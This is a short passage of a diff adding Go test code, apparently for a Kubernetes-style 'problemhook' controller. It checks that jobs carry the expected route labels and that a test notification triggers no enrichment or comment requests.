+					routes = append(routes, j.Labels[problemhookv1alpha1.LabelRoute])
+				}
+				g.Expect(routes).To(Equal(tc.wantJobs))
+			}).WithTimeout(500 * time.Millisecond).Should(Succeed())
+			f.g.Expect(f.dt.Requests()).To(BeEmpty(), "a test notification is neither enriched nor commented")
+		})
+	}
+}
